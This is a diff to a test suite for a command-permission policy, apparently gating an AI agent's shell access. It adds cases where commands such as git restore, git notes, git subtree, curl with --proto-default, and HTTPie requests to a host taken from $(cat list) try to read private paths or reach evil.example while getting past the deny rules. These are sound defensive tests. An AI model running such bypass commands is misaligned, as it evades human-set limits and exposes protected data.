@@ -647,7 +647,20 @@ test.each([
   ['fs_read(private/**)', 'git restore -s HEAD:private a'],
   ['fs_read(private/**)', 'git restore --source=HEAD:private a'],
   ['fs_read(private/**)', 'git reset HEAD:private -- .'],
+  ['fs_read(private/**)', 'git notes add -Cmain:private/a'],
+  ['fs_read(private/**)', 'git notes add -fcmain:private/a'],
+  ['fs_read(private/**)', 'git restore -smain:private a'],
+  ['fs_read(private/**)', 'git restore -SWsmain:private a'],
+  ['fs_read(private/**)', 'git tag v1 -m -m HEAD:private/a'],
+  ['fs_read(private/**)', 'git tag v1 -F -m HEAD:private/a'],
+  ['fs_read(private/**)', 'git commit-tree -m -m main:private'],
   ['fs_read(private/**)', 'git subtree split --prefix=private -b y'],
+  ['fs_read(private/**)', 'git subtree add --prefix=copy HEAD'],
+  ['fs_read(private/**)', 'git subtree merge --prefix=private HEAD'],
+  ['fs_read(private/**)', 'git subtree push --prefix=private . y'],
+  ['fs_read(private/**)', 'git merge -qssubtree topic'],
+  ['fs_read(private/**)', 'git merge -nXsubtree=private topic'],
+  ['fs_read(private/**)', 'git pull --strategy-o=subtree=private . topic'],
   ['fs_read(private/**)', 'git merge -s subtree topic'],
   ['fs_read(private/**)', 'git cherry-pick -Xsubtree=private topic'],
   ['fs_read(private/**)', 'git filter-branch --subdirectory-filter private'],
@@ -656,6 +669,8 @@ test.each([
   ['fs_read(private/**)', 'git bisect replay private/a'],
   ['fs_read(private/**)', "curl 'file:///w/pri[v-v]ate/a'"],
   ['fs_read(private/**)', "curl --url='file:///w/pri[v-v]ate/a'"],
+  ['fs_read(private/**)', 'curl --proto-default file /w/private/a'],
+  ['fs_read(private/**)', 'curl --proto-d FILE localhost/w/private/a'],
   ['fs_read(private/**)', 'setfacl -M private/a src'],
   ['fs_read(private/**)', 'setfacl --set-file=private/a src'],
   ['fs_write(private/**)', 'setfacl --restore=list'],
@@ -668,6 +683,8 @@ test.each([
   ['web_fetch(evil.example)', 'xargs -I{} curl https://{}/x < list'],
   ['web_fetch(evil.example)', 'git push "https://$(cat list)/x" main'],
   ['web_fetch(evil.example)', 'nc "$(cat list)" 80'],
+  ['web_fetch(evil.example)', 'http POST "evil.$(cat list)" name=x'],
+  ['web_fetch(evil.example)', 'http api.example.com --proxy "http:$(cat list)"'],
   ['bash_run(@publish)', 'gradle pubAll'],
   ['bash_run(@publish)', './gradlew test :lib:pTML'],
   ['bash_run(@publish)', 'cargo --config \'alias.x="publish"\' x'],
@@ -699,6 +716,9 @@ test.each([
   'cd secret && poetry run mytool check',
   'git merge-file -p secret/a a list',
   'git notes add -m "see HEAD:private/a"',
+  'git notes add -m see:private/a',
+  'git notes add --message=see:private/a',
+  'git update-ref -m see:private/a refs/x HEAD',
   'git restore --source=HEAD:src a.ts',
   'git reset HEAD:src -- .',
   'git bisect view --oneline',
@@ -708,6 +728,14 @@ test.each([
   const rules = policy('auto: [bash_run]\ndeny: ["fs_read(private/**)", "fs_write(secret/**)"]\n');
   expect(verdictOf(rules, command)).toBe('auto');
 });
+
+test.each(['http GET a.example "X-Key:$(cat list)"', 'xh a.example "name:$(cat list)"'])(
+  'a rule about a host does not ask about a header or field behind the address: %s',
+  (command) => {
+    const rules = policy('auto: [bash_run]\ndeny: ["web_fetch(evil.example)"]\n');
+    expect(verdictOf(rules, command)).toBe('auto');
+  },
+);
 
 test.each([
   ['bash_run(npx eslint *)', 'npx eslint .'],
